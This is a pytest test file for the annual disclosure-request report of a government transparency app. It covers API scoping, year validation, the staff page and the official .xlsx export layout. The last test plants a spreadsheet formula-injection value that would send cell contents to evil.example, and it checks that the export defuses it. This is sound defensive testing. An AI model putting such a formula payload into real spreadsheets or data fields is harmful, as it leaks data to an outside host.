"""Table 3 of the annual report in the reports app: the API (its contract), the staff page, the .xlsx export, and
the scope and year rules. The figures come from the disclosure-request provider; the data set is the one of
sunshine/disclosure_requests/tests/test_annual_table.py (a test may build a domain's cases, the app may not)."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.utils import timezone

from sunshine.disclosure_requests.tests.test_annual_table import COM, DOMAIN_LABELS, LEG, NAT, OTH, RES, WEL
from sunshine.reports import scope

D = dt.date

# --- access: API and page -----------------------------------------------------------------------

API = "/api/v1/reports/request-table"


def test_api_returns_the_table_for_the_clerks_department(dataset, clerk, api_client):
    api_client.force_authenticate(clerk)
    response = api_client.get(API, {"year": 2025})
    assert response.status_code == 200
    data = response.json()
    assert data["year"] == 2025 and data["department"]["code"] == "fgw"
    assert len(data["columns"]) == 7 and [r["label"] for r in data["rows"]] == DOMAIN_LABELS
    received = next(r for r in data["rows"] if r["key"] == "received")
    assert received["values"] == {NAT: 6, COM: 4, RES: 4, WEL: 4, LEG: 5, OTH: 5, "total": 28}
    assert all(set(c) >= {"name", "passed"} and c["passed"] for c in data["checks"])
    assert api_client.get(API, {"year": 2025, "department": "fgw"}).status_code == 200


def test_api_scoping_and_validation(dataset, clerk, office_head, citizen, api_client):
    assert api_client.get(API, {"year": 2025}).status_code in (401, 403)
    api_client.force_authenticate(clerk)
    assert api_client.get(API, {"year": 2025, "department": "zjj"}).status_code == 404
    assert api_client.get(API, {"year": 2025, "department": "nope"}).status_code == 404
    for bad in ("", "abc", "1999", "20250", str(timezone.localdate().year + 1)):
        response = api_client.get(API, {"year": bad})
        assert response.status_code == 400, bad
        assert "年度" in response.json()["detail"]
    api_client.force_authenticate(office_head)
    county = api_client.get(API, {"year": 2025}).json()
    assert county["department"] is None
    assert next(r for r in county["rows"] if r["key"] == "received")["values"]["total"] == 29
    assert api_client.get(API, {"year": 2025, "department": "zjj"}).json()["department"]["code"] == "zjj"
    api_client.force_authenticate(citizen)
    assert api_client.get(API, {"year": 2025}).status_code == 403


PAGE = "/ysq/staff/report/"


def test_staff_page_shows_table_and_checks(dataset, clerk, client):
    client.force_login(clerk)
    response = client.get(PAGE, {"year": 2025})
    assert response.status_code == 200
    html = response.content.decode()
    assert "（七）总计" in html and 'scope="row"' in html and 'scope="col"' in html
    assert html.count("badge-success") == 4 + 3 and "未通过" not in html  # table 3's four checks, table 4's three
    assert '<td data-column="total">28</td>' in html
    assert client.get(PAGE, {"year": 2025, "department": "zjj"}).status_code == 404
    bad = client.get(PAGE, {"year": "1900"})
    assert bad.status_code == 400 and "年度应在" in bad.content.decode()


def test_xlsx_export_has_the_official_layout(dataset, office_head, client):
    from openpyxl import load_workbook

    client.force_login(office_head)
    response = client.get(PAGE, {"year": 2025, "department": "fgw", "export": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="request-table-2025-fgw.xlsx"'
    wb = load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames == ["二、主动公开政府信息情况", "三、收到和处理政府信息公开申请情况",
                             "四、政府信息公开行政复议、行政诉讼情况",
                             "勾稽关系校验"]
    ws = wb["三、收到和处理政府信息公开申请情况"]
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"A2:C4", "D2:J2", "D3:D4", "E3:I3", "J3:J4", "A5:C5", "A7:A28", "B9:B16", "B17:B19", "B20:B24",
            "B25:B27", "B28:C28", "A29:C29"} <= merged
    assert [ws.cell(row=4, column=c).value for c in range(5, 10)] == ["商业企业", "科研机构", "社会公益组织",
                                                                     "法律服务机构", "其他"]
    assert ws["A5"].value == "一、本年新收政府信息公开申请数量" and ws["J5"].value == 28 and ws["D5"].value == 6
    assert ws["A7"].value == "三、本年度办理结果" and ws["B7"].value == "（一）予以公开" and ws["J7"].value == 2
    assert ws["B9"].value == "（三）不予公开" and ws["C9"].value == "1.属于国家秘密" and ws["J9"].value == 2
    assert ws["B28"].value == "（七）总计" and ws["J28"].value == 28
    assert ws["A29"].value == "四、结转下年度继续办理" and ws["J29"].value == 3
    checks = list(wb["勾稽关系校验"].iter_rows(min_row=2, values_only=True))
    assert [row[1] for row in checks] == ["通过"] * (4 + 3)


def test_parse_year():
    today = D(2026, 11, 21)
    assert scope.parse_year("2025", today=today) == 2025
    assert scope.parse_year(" 2026 ", today=today) == 2026
    for bad in (None, "", "25", "2027", "2007", "二〇二五"):
        with pytest.raises(scope.InvalidYear):
            scope.parse_year(bad, today=today)


def test_report_xlsx_neutralises_formulas(client, county, office_head):
    from openpyxl import load_workbook

    from sunshine.orgs.models import Department

    zfb = Department.objects.create(code="zfb", name="随县人民政府办公室", short_name="县政府办", division=county)
    zfb.name = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    zfb.save(update_fields=["name"])
    client.force_login(office_head)
    response = client.get("/ysq/staff/report/?year=2025&department=zfb&export=xlsx")
    if response.status_code == 404:  # the office head's department is gkb: use a county-wide reader
        pytest.skip("office head cannot read zfb")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    title = sheet.cell(row=1, column=1)
    assert title.data_type == "s" and title.value.startswith("\'=HYPERLINK")
